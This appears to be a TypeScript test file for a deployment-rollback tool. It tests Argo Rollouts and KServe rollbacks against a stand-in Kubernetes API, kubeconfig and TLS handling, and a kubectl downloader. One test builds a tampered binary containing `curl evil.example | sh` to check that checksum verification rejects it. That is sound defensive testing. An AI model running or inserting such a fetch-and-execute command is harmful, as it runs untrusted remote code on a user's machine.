      this.violations.push(`${where}: content type ${r.contentType}`);
      return statusReply(415, 'UnsupportedMediaType', `the body of the request was in an unknown format`);
    }
    next.status = current.status;
    if (JSON.stringify(next.spec) !== JSON.stringify(current.spec)) {
      next.metadata = { ...next.metadata, generation: current.metadata.generation + 1 };
    }
    return this.write(r, this.rollouts, key, next);
  }

  private inferenceService(r: Recorded, key: string, name: string): Reply {
    const where = `${r.method} ${r.path}`;
    const current = this.isvcs.get(key);
    if (!current)
      return statusReply(404, 'NotFound', `inferenceservices.serving.kserve.io "${name}" not found`);
    if (r.method === 'GET') return { status: 200, body: this.read(() => this.isvcs.get(key)) };
    if (r.method !== 'PATCH' || r.contentType !== MERGE_PATCH) {
      this.violations.push(`${where}: ${r.contentType} is not a merge patch`);
      return statusReply(415, 'UnsupportedMediaType', 'the body of the request was in an unknown format');
    }
    const percent = (r.body as any)?.spec?.predictor?.canaryTrafficPercent;
    if (percent !== undefined && !(Number.isInteger(percent) && percent >= 0 && percent <= 100)) {
      return statusReply(422, 'Invalid', 'canaryTrafficPercent must be between 0 and 100');
    }
    return this.write(r, this.isvcs, key, { ...mergePatch(current, r.body), status: current.status });
  }

  /** What the Argo Rollouts and KServe controllers make of the spec. */
  private reconcile() {
    for (const [key, ro] of this.rollouts) {
      const s = { ...ro.status };
      const stable = this.replicasets.find(
        (rs) =>
          rs.metadata.labels['rollouts-pod-template-hash'] === s.stableRS &&
          rs.metadata.ownerReferences[0].uid === ro.metadata.uid,
      );
      const bare = (t: any) => {
        const c = structuredClone(t);
        delete c.metadata.labels['rollouts-pod-template-hash'];
        return JSON.stringify(c);
      };
      if (stable && bare(stable.spec.template) === bare(ro.spec.template)) {
        Object.assign(s, { currentPodHash: s.stableRS, abort: false, phase: 'Healthy', message: '' });
      } else if (s.abort) {
        Object.assign(s, {
          phase: 'Degraded',
          message: 'RolloutAborted: Rollout aborted update to revision 2',
        });
      }
      s.observedGeneration = String(ro.metadata.generation);
      this.rollouts.set(key, { ...ro, status: s });
    }
    for (const [key, isvc] of this.isvcs) {
      const p = structuredClone(isvc.status.components.predictor);
      if (isvc.spec.predictor.canaryTrafficPercent !== 0) continue;
      const latest = p.latestReadyRevision;
      if (p.latestRolledoutRevision === latest) p.latestRolledoutRevision = p.previousRolledoutRevision;
      p.traffic = [
        { tag: 'latest', revisionName: latest, percent: 0, latestRevision: true },
        { tag: 'prev', revisionName: p.latestRolledoutRevision, percent: 100, latestRevision: false },
      ];
      this.isvcs.set(key, { ...isvc, status: { ...isvc.status, components: { predictor: p } } });
    }
  }
}

const TOKEN = 'kube-token-4f9a1c27e8b3d605';

function argoTemplate(tag: string, hash?: string) {
  return {
    metadata: { labels: { app: 'churn-model', ...(hash ? { 'rollouts-pod-template-hash': hash } : {}) } },
    spec: { containers: [{ name: 'model', image: image(tag) }] },
  };
}

/** A canary paused at 20%: stable 5b7c9d (v1), canary 6f8e2a (v2). */
function seedArgo(api: KubeApiStandIn, current = '6f8e2a') {
  api.rollouts.set('serving/churn-model', {
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Rollout',
    metadata: { name: 'churn-model', namespace: 'serving', uid: 'ro-uid', generation: 2, annotations: {} },
    spec: { replicas: 5, template: argoTemplate(current === '5b7c9d' ? 'v1' : 'v2') },
    status: {
      stableRS: '5b7c9d',
      currentPodHash: current,
      abort: false,
      phase: current === '5b7c9d' ? 'Healthy' : 'Paused',
      message: current === '5b7c9d' ? '' : 'CanaryPauseStep',
      observedGeneration: '2',
    },
  });
  const rs = (hash: string, tag: string, owner = 'ro-uid') => ({
    apiVersion: 'apps/v1',
    kind: 'ReplicaSet',
    metadata: {
      name: `churn-model-${hash}`,
      namespace: 'serving',
      labels: { app: 'churn-model', 'rollouts-pod-template-hash': hash },
      ownerReferences: [
        { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', name: 'churn-model', uid: owner },
      ],
    },
    spec: { template: argoTemplate(tag, hash) },
  });
  api.replicasets = [rs('5b7c9d', 'v1'), rs('6f8e2a', 'v2'), rs('5b7c9d', 'impostor', 'other-uid')];
}

describe('argo-rollouts target (Kubernetes API stand-in)', () => {
  let api: KubeApiStandIn;
  beforeEach(async () => {
    api = await KubeApiStandIn.start({ token: TOKEN });
    seedArgo(api);
  });
  afterEach(async () => {
    expect(api.violations).toEqual([]);
    await api.close();
  });
  const target = (undo = false, token = TOKEN) =>
    argoRolloutsTarget(KubeApi.fromServer({ server: api.url, token }), {
      namespace: 'serving',
      rollout: 'churn-model',
      undo,
      pollIntervalMs: 5,
    });
  const path = '/apis/argoproj.io/v1alpha1/namespaces/serving/rollouts/churn-model';
  const annotations = {
    'mlgate.dev/rolled-back-from': `6f8e2a (model=${image('v2')})`,
    'mlgate.dev/rolled-back-to': '5b7c9d',
    'mlgate.dev/rollback-reason': REASON,
    'mlgate.dev/rollback-run': RUN_URL,
  };

  it('aborts through the status subresource, marks the Rollout, and waits for the controller to report it', async () => {
    const outcome = await target().rollback(context());
    expect(api.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      `GET ${path}`,
      'GET /apis/apps/v1/namespaces/serving/replicasets',
      `PATCH ${path}`,
      `PATCH ${path}/status`,
      `GET ${path}`,
      `GET ${path}`,
    ]);
    expect(api.requests[1].query).toEqual({ labelSelector: 'rollouts-pod-template-hash=5b7c9d' });
    expect(api.patches().map((r) => [r.contentType, r.body])).toEqual([
      [MERGE_PATCH, { metadata: { annotations } }],
      [MERGE_PATCH, { status: { abort: true } }],
    ]);
    expect(outcome).toMatchObject({
      rolledBack: true,
      alreadyRolledBack: false,
      from: `6f8e2a (model=${image('v2')})`,
      to: `5b7c9d (model=${image('v1')})`,
      before: { phase: 'Paused', stable: '5b7c9d', current: '6f8e2a', abort: 'false' },
      after: { phase: 'Degraded', abort: 'true' },
    });
    expect(outcome.steps[1]).toBe(
      `PATCH ${api.url}${path}/status (${MERGE_PATCH}) {"status":{"abort":true}}`,
    );
    expect(api.rollouts.get('serving/churn-model').metadata.annotations).toEqual(annotations);
  });

  it('a second run sees the abort and changes nothing', async () => {
    await target().rollback(context());
    api.requests.length = 0;
    const second = await target().rollback(context());
    expect(second).toMatchObject({ rolledBack: false, alreadyRolledBack: true, steps: [] });
    expect(api.patches()).toEqual([]);
  });

  it('in a dry run sends every patch with ?dryRun=All and persists nothing', async () => {
    const before = structuredClone(api.rollouts.get('serving/churn-model'));
    const outcome = await target(true).rollback(context({ dryRun: true }));
    expect(api.patches().map((r) => [r.path, r.query, r.contentType])).toEqual([
      [path, { dryRun: 'All' }, MERGE_PATCH],
      [`${path}/status`, { dryRun: 'All' }, MERGE_PATCH],
      [path, { dryRun: 'All' }, JSON_PATCH],
    ]);
    expect(outcome).toMatchObject({ rolledBack: false, alreadyRolledBack: false });
    expect(outcome.steps).toHaveLength(3);
    expect(api.rollouts.get('serving/churn-model')).toEqual(before);
  });

  it("with undo puts the stable ReplicaSet's template back (without its hash label), and is then idempotent", async () => {
    const outcome = await target(true).rollback(context());
    const [, , undo] = api.patches();
    expect(undo.contentType).toBe(JSON_PATCH);
    expect(undo.body).toEqual([{ op: 'replace', path: '/spec/template', value: argoTemplate('v1') }]);
    expect(outcome).toMatchObject({
      rolledBack: true,
      after: { phase: 'Healthy', current: '5b7c9d', abort: 'false' },
    });
    api.requests.length = 0;
    const second = await target(true).rollback(context());
    expect(second).toMatchObject({ alreadyRolledBack: true, from: `6f8e2a (model=${image('v2')})` });
    expect(api.patches()).toEqual([]);
  });

  it('refuses a fully promoted Rollout: there is no update to abort', async () => {
    seedArgo(api, '5b7c9d');
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toMatch(
      /^rollout\/churn-model is fully promoted: its current pods are its stable ReplicaSet 5b7c9d/,
    );
    expect(api.patches()).toEqual([]);
  });

  it('says when the controller does not settle in time; a second run does not patch again', async () => {
    api.controllerDown = true;
    const e = await configurationError(target().rollback(context({ timeoutMs: 20 })));
    expect(e.message).toContain('was aborted, but it did not settle on 5b7c9d');
    api.controllerDown = false;
    api.requests.length = 0;
    expect((await target().rollback(context())).alreadyRolledBack).toBe(true);
    expect(api.patches()).toEqual([]);
  });

  it("401, 403 and 404 are ConfigurationErrors with the API's reason, never the token", async () => {
    const logger = new MemoryLogger();
    const unauthorized = await configurationError(target(false, 'wrong-token').rollback(context({ logger })));
    expect(unauthorized.message).toBe(
      `the Kubernetes API refused GET ${path}: 401 Unauthorized: Unauthorized (the token or client certificate is missing, expired or not accepted)`,
    );
    api.forbidden.add(`PATCH ${path}/status`);
    const forbidden = await configurationError(target().rollback(context({ logger })));
    expect(forbidden.message).toContain(
      `refused PATCH ${path}/status: 403 Forbidden: rollouts.argoproj.io "churn-model" is forbidden`,
    );
    const missing = await configurationError(
      argoRolloutsTarget(KubeApi.fromServer({ server: api.url, token: TOKEN }), {
        namespace: 'serving',
        rollout: 'churn',
      }).rollback(context({ logger })),
    );
    expect(missing.message).toContain('404 NotFound: rollouts.argoproj.io "churn" not found');
    for (const text of [
      unauthorized.message,
      forbidden.message,
      missing.message,
      ...logger.lines.map((l) => l.message),
    ]) {
      expect(text).not.toContain(TOKEN);
      expect(text).not.toContain('wrong-token');
    }
  });
});

describe('kserve target (Kubernetes API stand-in)', () => {
  let api: KubeApiStandIn;
  const rev = (n: number) => `churn-model-predictor-0000${n}`;
  const path = '/apis/serving.kserve.io/v1beta1/namespaces/serving/inferenceservices/churn-model';
  beforeEach(async () => {
    api = await KubeApiStandIn.start({ token: TOKEN });
    seedKServe(api);
  });
  afterEach(async () => {
    expect(api.violations).toEqual([]);
    await api.close();
  });

  /** By default a canary: revision 2 at 10%, revision 1 (the first ever rolled out) at 90%. */
  function seedKServe(
    standIn: KubeApiStandIn,
    predictor: Record<string, unknown> = {
      latestReadyRevision: rev(2),
      latestRolledoutRevision: rev(1),
      traffic: [
        { tag: 'latest', revisionName: rev(2), percent: 10, latestRevision: true },
        { tag: 'prev', revisionName: rev(1), percent: 90, latestRevision: false },
      ],
    },
    canaryTrafficPercent: number | undefined = 10,
  ) {
    standIn.isvcs.set('serving/churn-model', {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'churn-model', namespace: 'serving', annotations: {} },
      spec: {
        predictor: {
          ...(canaryTrafficPercent === undefined ? {} : { canaryTrafficPercent }),
          model: { modelFormat: { name: 'sklearn' }, storageUri: 's3://models/churn/2' },
        },
      },
      status: { components: { predictor } },
    });
  }
  const target = () =>
    kserveTarget(KubeApi.fromServer({ server: api.url, token: TOKEN }), {
      namespace: 'serving',
      service: 'churn-model',
      pollIntervalMs: 5,
    });

  it('sets canaryTrafficPercent to 0 with the mark in one merge patch, and waits for 100% on the stable revision', async () => {
    const outcome = await target().rollback(context());
    expect(api.patches()).toEqual([
      {
        method: 'PATCH',
        path,
        query: {},
        contentType: MERGE_PATCH,
        body: {
          metadata: {
            annotations: {
              'mlgate.dev/rolled-back-from': rev(2),
              'mlgate.dev/rolled-back-to': rev(1),
              'mlgate.dev/rollback-reason': REASON,
              'mlgate.dev/rollback-run': RUN_URL,
            },
          },
          spec: { predictor: { canaryTrafficPercent: 0 } },
        },
      },
    ]);
    expect(outcome).toMatchObject({
      rolledBack: true,
      from: rev(2),
      to: rev(1),
      before: { canaryTrafficPercent: '10', traffic: `${rev(2)}=10%, ${rev(1)}=90%` },
      after: { canaryTrafficPercent: '0', traffic: `${rev(2)}=0%, ${rev(1)}=100%` },
    });
    // The model spec is untouched: only the traffic moves.
    expect(api.isvcs.get('serving/churn-model').spec.predictor.model.storageUri).toBe('s3://models/churn/2');
  });

  it('a second run sees canaryTrafficPercent 0 and changes nothing', async () => {
    await target().rollback(context());
    api.requests.length = 0;
    const second = await target().rollback(context());
    expect(second).toMatchObject({
      rolledBack: false,
      alreadyRolledBack: true,
      from: rev(2),
      to: rev(1),
      steps: [],
    });
    expect(api.patches()).toEqual([]);
  });

  it('in a dry run sends the patch with ?dryRun=All and persists nothing', async () => {
    const before = structuredClone(api.isvcs.get('serving/churn-model'));
    const outcome = await target().rollback(context({ dryRun: true }));
    expect(api.patches().map((r) => r.query)).toEqual([{ dryRun: 'All' }]);
    expect(outcome).toMatchObject({ rolledBack: false, to: rev(1) });
    expect(api.isvcs.get('serving/churn-model')).toEqual(before);
  });

  it('after a full promotion goes back to the previous rolled-out revision', async () => {
    seedKServe(
      api,
      {
        latestReadyRevision: rev(3),
        latestRolledoutRevision: rev(3),
        previousRolledoutRevision: rev(2),
        traffic: [{ tag: 'latest', revisionName: rev(3), percent: 100, latestRevision: true }],
      },
      undefined,
    );
    const outcome = await target().rollback(context());
    expect(outcome).toMatchObject({ rolledBack: true, from: rev(3), to: rev(2) });
  });

  it('refuses without a previously rolled-out revision', async () => {
    seedKServe(
      api,
      {
        latestReadyRevision: rev(1),
        latestRolledoutRevision: rev(1),
        traffic: [{ tag: 'latest', revisionName: rev(1), percent: 100, latestRevision: true }],
      },
      undefined,
    );
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toBe(
      `inferenceservice/churn-model has no revision rolled out before ${rev(1)}, so there is nothing to roll back to`,
    );
    expect(api.patches()).toEqual([]);
  });

  it('refuses an InferenceService without a traffic split (raw deployment mode)', async () => {
    seedKServe(api, { latestReadyRevision: rev(1) });
    api.isvcs.get('serving/churn-model').metadata.annotations['serving.kserve.io/deploymentMode'] =
      'RawDeployment';
    const e = await configurationError(target().rollback(context()));
    expect(e.message).toContain('has no traffic split (deploymentMode RawDeployment)');
  });

  it('404 names the InferenceService', async () => {
    const e = await configurationError(
      kserveTarget(KubeApi.fromServer({ server: api.url, token: TOKEN }), {
        namespace: 'staging',
        service: 'churn-model',
      }).rollback(context()),
    );
    expect(e.message).toContain('404 NotFound: inferenceservices.serving.kserve.io "churn-model" not found');
  });
});

describe('KubeApi connections', () => {
  it('an unreachable server is "unreachable", named', async () => {
    const closed = createHttpServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as AddressInfo;
    await new Promise((resolve) => closed.close(resolve));
    const api = KubeApi.fromServer({ server: `http://127.0.0.1:${port}`, token: TOKEN });
    const e = await configurationError(api.get('/version'));
    expect(e.message).toBe(
      `the Kubernetes API server http://127.0.0.1:${port} is unreachable (ECONNREFUSED)`,
    );
  });

  it('reads a kubeconfig: current context, its namespace, a token from tokenFile', async () => {
    const api = await KubeApiStandIn.start({ token: TOKEN });
    seedArgo(api);
    const dir = mkdtempSync(join(scratch, 'kubeconfig-'));
    writeFileSync(join(dir, 'token'), `${TOKEN}\n`);
    const file = join(dir, 'config');
    writeFileSync(
      file,
      [
        'apiVersion: v1',
        'kind: Config',
        'current-context: ci',
        'clusters:',
        '- name: stand-in',
        `  cluster: { server: "${api.url}" }`,
        'contexts:',
        '- name: ci',
        '  context: { cluster: stand-in, user: deployer, namespace: serving }',
        '- name: eks',
        '  context: { cluster: stand-in, user: eks-user }',
        'users:',
        '- name: deployer',
        '  user: { tokenFile: token }',
        '- name: eks-user',
        '  user:',
        '    exec: { apiVersion: client.authentication.k8s.io/v1beta1, command: aws, args: [eks, get-token] }',
      ].join('\n'),
    );
    const kube = KubeApi.fromKubeconfig(file);
    expect(kube.namespace).toBe('serving');
    const rollout = await kube.get<any>('/apis/argoproj.io/v1alpha1/namespaces/serving/rollouts/churn-model');
    expect(rollout.status.stableRS).toBe('5b7c9d');
    expect(() => KubeApi.fromKubeconfig(file, 'eks')).toThrow(
      /user "eks-user" authenticates through an exec plugin \(aws\), which mlgate does not run/,
    );
    expect(() => KubeApi.fromKubeconfig(file, 'nope')).toThrow(
      `kubeconfig ${file}: has no context named "nope"`,
    );
    expect(api.violations).toEqual([]);
    await api.close();
  });

  const openssl = (() => {
    try {
      execFileSync('openssl', ['version'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();

  it.skipIf(!openssl)(
    'over TLS: trusts the kubeconfig CA, authenticates with a client certificate',
    async () => {
      const dir = mkdtempSync(join(scratch, 'tls-'));
      const run = (...args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: 'pipe' });
      const key = (name: string) => [
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:prime256v1',
        '-nodes',
        '-keyout',
        `${name}.key`,
      ];
      run('req', '-x509', ...key('ca'), '-out', 'ca.crt', '-days', '2', '-subj', '/CN=stand-in-ca');
      writeFileSync(join(dir, 'server.ext'), 'subjectAltName=IP:127.0.0.1\n');
      for (const [name, cn] of [
        ['server', '127.0.0.1'],
        ['client', 'mlgate'],
      ]) {
        run('req', ...key(name), '-out', `${name}.csr`, '-subj', `/CN=${cn}`);
        const ext = name === 'server' ? ['-extfile', 'server.ext'] : [];
        run(
          'x509',
          '-req',
          '-in',
          `${name}.csr`,
          '-CA',
          'ca.crt',
          '-CAkey',
          'ca.key',
          '-CAcreateserial',
          '-out',
          `${name}.crt`,
          '-days',
          '2',
          ...ext,
        );
      }
      const read = (f: string) => readFileSync(join(dir, f));
      const api = await KubeApiStandIn.start({
        tls: { key: read('server.key'), cert: read('server.crt'), ca: read('ca.crt') },
      });
      seedArgo(api);
      const file = join(dir, 'config');
      writeFileSync(
        file,
        [
          'apiVersion: v1',
          'current-context: tls',
          `clusters: [{ name: tls, cluster: { server: "${api.url}", certificate-authority: ca.crt } }]`,
          'contexts: [{ name: tls, context: { cluster: tls, user: mlgate } }]',
          'users:',
          '- name: mlgate',
          '  user:',
          `    client-certificate-data: ${read('client.crt').toString('base64')}`,
          `    client-key-data: ${read('client.key').toString('base64')}`,
        ].join('\n'),
      );
      const outcome = await argoRolloutsTarget(KubeApi.fromKubeconfig(file), {
        namespace: 'serving',
        rollout: 'churn-model',
        pollIntervalMs: 5,
      }).rollback(context());
      expect(outcome.rolledBack).toBe(true);
      const untrusted = await configurationError(KubeApi.fromServer({ server: api.url }).get('/version'));
      expect(untrusted.message).toMatch(
        /^TLS verification of https:\/\/127\.0\.0\.1:\d+ failed \([A-Z_]+\): give the CA/,
      );
      expect(api.violations).toEqual([]);
      await api.close();
    },
  );
});

// ---------------------------------------------------------------------------------------------------------
// resolveKubectl: a local server laid out like dl.k8s.io

describe.skipIf(!posix)('resolveKubectl (release-layout stand-in server)', () => {
  const platform = kubectlPlatform();
  const binary = (version: string) => `#!/bin/sh\necho "Client Version: v${version} (stand-in)"\n`;
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
  /** What the server serves, laid out as on dl.k8s.io. */
  const root = mkdtempSync(join(scratch, 'dl-k8s-'));
  let server: FileServer;
  let served: string[];
  let baseUrl: string;
  const saved: Record<string, string | undefined> = {};
  const emptyPath = mkdtempSync(join(scratch, 'empty-path-'));

  function publish(version: string, body: string, checksum = sha256(body)) {
    const dir = join(root, 'release', `v${version}`, 'bin', platform);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'kubectl'), body);
    writeFileSync(join(dir, 'kubectl.sha256'), checksum);
  }

  beforeAll(async () => {
    server = await serveDirectory(root);
    served = server.requests;
    baseUrl = `${server.url}/release`;
    for (const k of ['PATH', 'RUNNER_TOOL_CACHE', 'RUNNER_TEMP']) saved[k] = process.env[k];
  });
  beforeEach(() => {
    served.length = 0;
    process.env.PATH = emptyPath;
    process.env.RUNNER_TOOL_CACHE = mkdtempSync(join(scratch, 'tool-cache-'));
    process.env.RUNNER_TEMP = mkdtempSync(join(scratch, 'runner-temp-'));
  });
  afterAll(async () => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
    await server.close();
  });

  it('downloads the pinned version, verifies its published sha256, caches it, and uses the cache next time', async () => {
    publish('1.31.2', binary('1.31.2'));
    const logger = new MemoryLogger();
    const kubectl = await resolveKubectl({ version: '1.31.2', baseUrl, logger });
    expect(served).toEqual([
      `/release/v1.31.2/bin/${platform}/kubectl.sha256`,
      `/release/v1.31.2/bin/${platform}/kubectl`,
    ]);
    expect(kubectl).toBe(join(process.env.RUNNER_TOOL_CACHE!, 'kubectl', '1.31.2', process.arch, 'kubectl'));
    expect(execFileSync(kubectl, ['version', '--client'], { encoding: 'utf8' })).toBe(
      'Client Version: v1.31.2 (stand-in)\n',
    );
    expect(readdirSync(process.env.RUNNER_TEMP!)).toEqual([]);
    served.length = 0;
    expect(await resolveKubectl({ version: 'v1.31.2', baseUrl, logger })).toBe(kubectl);
    expect(served).toEqual([]);
  });

  it('refuses and deletes a download whose sha256 does not match', async () => {
    publish('1.30.0', `${binary('1.30.0')}curl evil.example | sh\n`, sha256(binary('1.30.0')));
    const e = await configurationError(
      resolveKubectl({ version: '1.30.0', baseUrl, logger: new MemoryLogger() }),
    );
    expect(e.message).toMatch(
      /^the kubectl downloaded from .*\/v1\.30\.0\/.* has sha256 [0-9a-f]{64}, not the expected [0-9a-f]{64}: it was deleted, not run$/,
    );
    expect(readdirSync(process.env.RUNNER_TEMP!)).toEqual([]);
    expect(tc.find('kubectl', '1.30.0')).toBe('');
  });

  it('a pinned checksum wins over the published one', async () => {
    publish('1.29.4', binary('1.29.4'));
    const pinned = { [platform]: sha256('a different build') };
    const e = await configurationError(
      resolveKubectl({ version: '1.29.4', baseUrl, sha256: pinned, logger: new MemoryLogger() }),
    );
    expect(e.message).toContain(`not the expected ${pinned[platform]}`);
    expect(served).toEqual([`/release/v1.29.4/bin/${platform}/kubectl`]);
  });

  it('uses a kubectl on PATH without downloading', async () => {
    const bin = mkdtempSync(join(scratch, 'path-kubectl-'));
    writeFileSync(join(bin, 'kubectl'), binary('1.28.0'));
    chmodSync(join(bin, 'kubectl'), 0o755);
    process.env.PATH = `${emptyPath}${delimiter}${bin}`;
    expect(await resolveKubectl({ version: '1.31.2', baseUrl, logger: new MemoryLogger() })).toBe(
      join(bin, 'kubectl'),
    );
    expect(served).toEqual([]);
  });

  it('says what is missing: a version not published, a bad version, no runner tool cache', async () => {
    const logger = new MemoryLogger();
    const missing = await configurationError(resolveKubectl({ version: '1.99.0', baseUrl, logger }));
    expect(missing.message).toBe(
      `input "kubectl-base-url": could not download ${baseUrl}/v1.99.0/bin/${platform}/kubectl.sha256 (HTTP 404)`,
    );
    const bad = await configurationError(resolveKubectl({ version: 'latest', baseUrl, logger }));
    expect(bad.message).toBe('input "kubectl-version": "latest" is not a kubectl version like 1.31.2');
    delete process.env.RUNNER_TOOL_CACHE;
    const outside = await configurationError(resolveKubectl({ version: '1.31.2', baseUrl, logger }));
    expect(outside.message).toMatch(/^kubectl is not on PATH, and outside a runner/);
  });
});
